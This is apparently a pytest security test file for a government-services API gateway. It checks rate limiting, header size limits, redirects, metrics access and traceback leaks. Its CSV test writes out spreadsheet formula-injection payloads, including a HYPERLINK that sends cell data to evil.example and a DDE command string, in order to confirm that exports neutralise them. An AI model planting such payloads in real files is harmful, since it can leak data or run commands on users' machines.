"""Finding 9, the smaller items: each fixed at its cause, each proved through the gateway.

Where the effect is inside the platform (what an event carries, what a raise keeps alive),
the test reads it from the running platform's own data folder or process, never by calling
into a service.
"""

import asyncio
import csv
import gc
import io
import sqlite3
import types
import uuid
from pathlib import Path

import httpx
import pytest

from panjereh_embedded.app import create_app
from tests.security.conftest import OPS, PASSPORT, SECRETS, Window
from tests.support import eventually, free_port, serve

pytestmark = pytest.mark.asyncio

VALID_TRACEPARENT = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"


async def _wrong_secret(window: Window, client_id: str) -> httpx.Response:
    return await window.http.post(
        "/v1/oauth/token",
        data={
            "grant_type": "client_credentials",
            "client_id": client_id,
            "client_secret": "not-the-secret",
        },
    )


async def test_wrong_secrets_do_not_stall_the_event_loop(window: Window) -> None:
    """20 wrong-secret token requests (argon2 checks, a quarter second of CPU each) used to
    run on the event loop, one after the other, and /health/live waited for all of them."""
    guesses = [
        asyncio.create_task(_wrong_secret(window, f"guess-{n}-{uuid.uuid4().hex[:6]}"))
        for n in range(20)
    ]
    await asyncio.sleep(0.2)  # every guess is on the wire before the probe
    live = await window.http.get("/health/live")
    answered_before_the_probe = sum(task.done() for task in guesses)
    answers = await asyncio.gather(*guesses)
    assert live.status_code == 200
    assert {a.status_code for a in answers} == {401}
    # Off the loop, the checks take seconds in their own threads and the probe passes them;
    # on it, the probe waits behind every check already read.
    assert answered_before_the_probe < 10, answered_before_the_probe


async def test_wrong_secrets_for_one_client_are_limited(window: Window) -> None:
    answers = [(await _wrong_secret(window, PASSPORT)).status_code for _ in range(12)]
    assert answers[:10] == [401] * 10
    assert answers[10:] == [429, 429], answers
    refused = await _wrong_secret(window, PASSPORT)
    assert int(refused.headers["Retry-After"]) >= 1
    assert refused.headers["content-type"].startswith("application/problem+json")
    # Another client's backend is not locked out by guesses at this one.
    other = await window.http.post(
        "/v1/oauth/token",
        data={
            "grant_type": "client_credentials",
            "client_id": OPS,
            "client_secret": SECRETS[OPS],
        },
    )
    assert other.status_code == 200, other.text


def _outbox_payloads(data: Path) -> list[bytes]:
    payloads: list[bytes] = []
    for database in sorted(data.glob("*.db")):
        with sqlite3.connect(database) as connection:
            payloads += [row[0] for row in connection.execute("SELECT payload FROM outbox")]
    return payloads


async def _submit(window: Window, headers: dict[str, str]) -> httpx.Response:
    return await window.http.post(
        "/v1/applications",
        headers={
            **await window.auth(PASSPORT),
            "Idempotency-Key": str(uuid.uuid4()),
            **headers,
        },
        json={"service_id": "passport-issuance", "applicant": {"national_code": "0018392741"}},
    )


async def test_a_huge_traceparent_is_not_copied_into_events(window: Window, tmp_path: Path) -> None:
    before = len(_outbox_payloads(tmp_path / "data"))
    huge = await _submit(window, {"traceparent": "00-" + "a" * 30_000})
    assert huge.status_code < 500, huge.text
    kept = await _submit(window, {"traceparent": VALID_TRACEPARENT})
    assert kept.status_code < 500, kept.text
    await eventually(lambda: len(_outbox_payloads(tmp_path / "data")) > before + 1, within=30)
    payloads = _outbox_payloads(tmp_path / "data")
    assert not [p for p in payloads if b"a" * 1000 in p], "the caller's 30 KB reached an event"
    assert max(len(p) for p in payloads) < 20_000
    # A valid trace context still travels with the events it caused.
    assert any(VALID_TRACEPARENT.encode() in p for p in payloads)


@pytest.mark.parametrize(
    "path",
    ["/v1/applications/", "/v1/catalog/services/", "/v1/compliance/agencies/", "/v1/inquiries/"],
)
async def test_no_redirect_points_at_an_internal_address(window: Window, path: str) -> None:
    for client in (PASSPORT, OPS):
        response = await window.http.get(path, headers=await window.auth(client))
        location = response.headers.get("location", "")
        assert "embedded" not in location and not location.startswith("http"), location
        assert response.status_code < 500, response.text


async def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(window: Window) -> None:
    service_id = f"csv-{uuid.uuid4().hex[:8]}"
    formulas = {
        "name_fa": '=HYPERLINK("http://evil.example/?x="&A1,"کلیک")',
        "name_en": "+cmd|' /C calc'!A0",
    }
    published = await window.http.post(
        "/v1/catalog/services",
        headers=await window.auth(PASSPORT),
        json={"id": service_id, "decision": "manual", **formulas},
    )
    assert published.status_code == 201, published.text
    ops = await window.auth(OPS)

    async def listed() -> bool:
        response = await window.http.get("/v1/compliance/services?format=csv", headers=ops)
        return service_id in response.text

    await eventually(listed, within=30, what="the service never reached the compliance figures")
    for url in ("/v1/compliance/services?format=csv", "/v1/compliance/agencies/passport-police"):
        response = await window.http.get(url, headers={**ops, "Accept": "text/csv"})
        assert response.status_code == 200, response.text
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        cells = [cell for row in rows for cell in row]
        dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert not dangerous, dangerous
        assert "'" + formulas["name_en"] in cells  # shown as typed, never run


async def test_metrics_are_not_public(window: Window) -> None:
    anonymous = await window.http.get("/metrics")
    assert anonymous.status_code == 401, anonymous.text[:200]
    assert "panjereh_gateway_requests_total" not in anonymous.text
    agency = await window.http.get("/metrics", headers=await window.auth(PASSPORT))
    assert agency.status_code == 403
    operator = await window.http.get("/metrics", headers=await window.auth(OPS))
    assert operator.status_code == 200
    assert "panjereh_gateway_requests_total" in operator.text


def _tracebacks_alive() -> int:
    gc.collect()
    return sum(isinstance(o, types.TracebackType) for o in gc.get_objects())


async def test_not_found_answers_keep_no_traceback_alive(window: Window) -> None:
    """A module-level exception raised again and again is one object shared by every
    request: Python prepends each raise's frames to its traceback and keeps the last one's
    context (frames, request and all) alive. Each not-found is now a new problem; whatever
    the framework does with tracebacks, 300 misses leave none behind."""
    agency = await window.auth(PASSPORT)
    paths = ["/v1/applications/{}", "/v1/inquiries/{}", "/v1/status/{}"]

    async def misses(count: int) -> None:
        for n in range(count):
            for path in paths:
                response = await window.http.get(
                    path.format(f"{n:012d}"), headers={**agency, "X-National-Code": "0018392741"}
                )
                assert response.status_code in (404, 429), response.text

    await misses(5)  # warm: caches, first-use allocations
    before = _tracebacks_alive()
    await misses(100)
    grown = _tracebacks_alive() - before
    assert grown < 100, f"{grown} tracebacks more after 300 not-found answers"


async def test_prometheus_reads_the_gateway_on_a_port_of_its_own(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The public /metrics needs a token; with METRICS_PORT set (the manifests' 9100, open
    to the monitoring namespace only) Prometheus scrapes without one, as it scrapes the
    services."""
    port = free_port()
    monkeypatch.setenv("PANJEREH_GATEWAY_METRICS_PORT", str(port))
    async with serve(create_app(tmp_path / "data")) as url, httpx.AsyncClient() as http:
        assert (await http.get(f"{url}/metrics")).status_code == 401
        await http.get(f"{url}/health/live")
        scraped = await http.get(f"http://127.0.0.1:{port}/metrics")
        assert scraped.status_code == 200
        assert "panjereh_gateway_requests_total" in scraped.text
